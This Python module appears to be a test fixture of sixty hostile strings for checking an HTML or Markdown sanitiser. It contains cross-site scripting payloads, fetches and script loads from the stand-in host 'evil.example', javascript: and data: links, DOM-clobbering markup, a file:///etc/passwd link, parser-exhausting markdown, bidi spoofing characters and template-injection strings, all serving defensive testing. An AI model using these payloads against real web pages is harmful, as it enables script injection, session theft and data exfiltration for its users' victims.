"""Sixty texts that want more than to be read."""

EVIL = "http://evil.example"
_RUN = f"hacked=1;fetch('{EVIL}/x')"

TEXTS: tuple[str, ...] = (
    # scripts
    f"<script>{_RUN}</script>",
    f"<script src={EVIL}/a.js></script>",
    f'<script type="module">import "{EVIL}/m.js"</script>',
    f"<ScRiPt >{_RUN}</sCrIpT>",
    f"<<script>{_RUN}//<</script>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<!--<img src='--><img src=x onerror={_RUN}//'>",
    f"<template><script>{_RUN}</script></template>",
    # handlers of events
    f"<img src=x onerror={_RUN}>",
    f"<img/src=x/onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>open</details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<marquee onstart={_RUN}>m</marquee>",
    f"<div onpointerenter={_RUN} style='position:fixed;inset:0'>over all</div>",
    f"<button onclick={_RUN} autofocus>press</button>",
    # SVG and MathML
    f"<svg onload={_RUN}></svg>",
    f"<svg><script href={EVIL}/s.js></script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f"<svg><use href='{EVIL}/u.svg#a'></use></svg>",
    f"<svg><foreignObject><iframe src={EVIL}/></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={_RUN}>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={_RUN}>'>",
    # what loads
    f"<iframe src={EVIL}/i></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<object data={EVIL}/o></object><embed src={EVIL}/e>",
    f"<link rel=stylesheet href={EVIL}/l.css><link rel=prefetch href={EVIL}/p>",
    f"<style>@import '{EVIL}/s.css'; body {{background: url({EVIL}/b)}}</style>",
    f"<p style='background:url({EVIL}/b)'>styled</p>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/r'>",
    f"<base href={EVIL}/>",
    f"<form action={EVIL}/f><input type=submit value=go></form>",
    f"<audio src={EVIL}/a autoplay></audio>",
    f"<img srcset='{EVIL}/1 1x, {EVIL}/2 2x'><picture><source srcset={EVIL}/3></picture>",
    # markdown that becomes more
    f"![picture]({EVIL}/i.png)",
    f"![picture][ref]\n\n[ref]: {EVIL}/i.png",
    f"[click](javascript:{_RUN})",
    "[click](java\tscript:hacked=1)",
    "[click](&#106;avascript:hacked=1)",
    "[click](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==)",
    "[click](vbscript:hacked=1) [file](file:///etc/passwd) [blob](blob:x)",
    f"<javascript:{_RUN}>",
    f'[a]({EVIL} "onmouseover={_RUN}") ["onclick=hacked=1](x)',
    f"`<img src=x onerror={_RUN}>` and ```<script>{_RUN}</script>",
    f"```html\n<script>{_RUN}</script>\n",
    f"| a | b |\n|---|---|\n| <img src=x onerror={_RUN}> | [x](javascript:hacked=1) |",
    f"- [ ] <input onfocus={_RUN} autofocus>\n  1. > # <svg onload={_RUN}>",
    # what clobbers names of the page
    "<a id=app name=config>app</a><form id=main><input name=attributes></form>",
    "<img name=getElementById><a id=document><a id=document name=cookie>",
    # markdown that is hard to read
    "[" * 5000,
    "*_" * 4000 + "a" + "_*" * 4000,
    ">" * 3000 + " deep",
    "- " * 500 + "deeper",
    "![[[](((((" * 1500 + "`" * 777,
    "x" * 1_000_000,
    "<b>" * 3000 + "bold",
    # texts that are not what they seem
    "invoice_\u202efdp.exe and \u2066hidden\u2069 \u200bzero\ufeff width \U000e0041tag",
    "\u0001\u0002 \x1b[31mred\x1b[0m \x7f \u2028 line \u2029 separators",
    "{{constructor.constructor('hacked=1')()}} ${hacked=1} <%= hacked=1 %> %3Cscript%3E &lt;script&gt;",
)
